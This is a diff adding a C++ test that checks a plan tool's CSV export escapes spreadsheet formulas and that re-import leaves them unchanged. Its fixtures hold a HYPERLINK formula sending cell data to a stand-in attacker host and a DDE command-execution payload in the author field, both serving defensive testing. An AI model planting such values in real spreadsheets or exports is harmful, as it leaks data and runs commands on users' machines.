@@ -242,6 +242,30 @@ TEST_P(CommandLine, ALeadUpdatesAnActionAndReadsItsHistory) {
     EXPECT_EQ(summary["actions"]["rescheduled"], 3);
 }
 
+// A status note a spreadsheet would run as a formula leaves `plan export --format csv` as text,
+// and importing that CSV again keeps the note exactly as it was given.
+TEST_P(CommandLine, AFormulaInANoteIsExportedAsTextAndImportedBackUnchanged) {
+    import_northfield();
+    const std::string note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    auto result = csip({"action", "update", "NA4", "--status", "in_progress", "--rag", "amber",
+                        "--note", note, "--by", "+cmd|' /C calc'!A0", "--on", "2017-01-10"});
+    ASSERT_EQ(result.exit_code, 0) << result.err;
+    const auto json_before = csip({"plan", "export"}).out;
+
+    const auto csv = csip({"plan", "export", "--format", "csv"});
+    ASSERT_EQ(csv.exit_code, 0) << csv.err;
+    EXPECT_NE(
+        csv.out.find(",\"'+cmd|' /C calc'!A0\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"
+                     "\"\"Click\"\")\"\r\n"),
+        std::string::npos)
+        << csv.out;
+    EXPECT_EQ(csv.out.find(",=HYPERLINK"), std::string::npos);
+
+    result = csip({"plan", "import", file("plan.csv", csv.out), "--by", "performance officer"});
+    ASSERT_EQ(result.exit_code, 0) << result.err;
+    EXPECT_EQ(csip({"plan", "export"}).out, json_before);
+}
+
 TEST_P(CommandLine, AnUpdateThatBreaksTheActionRulesChangesNothing) {
     import_northfield();
     const auto before = csip({"history", "NA4", "--format", "json"}).out;
